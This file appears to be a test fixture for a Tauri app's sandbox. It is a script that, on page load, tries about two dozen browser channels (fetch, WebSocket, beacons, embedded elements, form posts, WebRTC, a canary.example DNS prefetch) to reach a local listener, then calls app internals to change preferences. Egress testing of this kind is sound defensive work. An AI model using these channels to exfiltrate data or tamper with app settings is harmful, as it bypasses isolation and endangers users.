// Tries every way out of a page that is known, each under a name of its own. What got through, the listener knows.
addEventListener('DOMContentLoaded', () => {
  const host = '127.0.0.1:TCP_PORT';
  const at = (way) => `http://${host}/${way}`;

  function put(tag, properties) {
    const element = Object.assign(document.createElement(tag), properties);
    document.body.append(element);
    return element;
  }

  function submit(target) {
    const form = put('form', { action: at('form'), method: 'post', target });
    form.append(Object.assign(document.createElement('input'), { name: 'words', value: 'x' }));
    form.submit();
  }

  const ways = [
    () => fetch(at('fetch'), { method: 'POST', mode: 'no-cors', body: 'x' }),
    () => {
      const request = new XMLHttpRequest();
      request.open('GET', at('request'));
      request.send();
    },
    () => new WebSocket(`ws://${host}/websocket`),
    () => new EventSource(at('events')),
    () => navigator.sendBeacon(at('beacon'), 'x'),
    () => put('img', { src: at('image') }),
    () => put('script', { src: at('script') }),
    () => put('link', { rel: 'stylesheet', href: at('style') }),
    () => put('link', { rel: 'icon', href: at('icon') }),
    () => put('link', { rel: 'prefetch', href: at('prefetch') }),
    () => put('link', { rel: 'preconnect', href: at('') }),
    () => put('link', { rel: 'dns-prefetch', href: 'http://canary.example/' }),
    () => put('iframe', { src: at('frame'), name: 'inside' }),
    () => put('object', { data: at('object') }),
    () => put('embed', { src: at('embed') }),
    () => put('video', { src: at('video'), preload: 'auto' }),
    () => put('style', { textContent: `body { background: url(${at('background')}) }` }),
    () => new FontFace('x', `url(${at('font')})`).load(),
    () => import(at('module')),
    () => new Worker(URL.createObjectURL(new Blob([`fetch('${at('worker')}')`]))),
    () => submit('inside'),
    () => put('a', { href: at('ping-target'), ping: at('ping'), target: 'inside' }).click(),
    () => window.open(at('window')),
    () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDP_PORT' }] });
      peer.createDataChannel('x');
      return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    },
  ];

  for (const way of ways) {
    try {
      Promise.resolve(way()).catch(() => {});
    } catch {
      // This way is closed.
    }
  }

  // Once all of that had its time, a preference is changed, which can be seen from outside. Going elsewhere comes
  // last: it may end the page.
  const { invoke } = window.__TAURI_INTERNALS__;
  setTimeout(async () => {
    const preferences = { ...(await invoke('read_preferences')), theme: 'dark' };
    await invoke('change_preferences', { preferences });
    location.assign(at('location'));
  }, 2000);
});
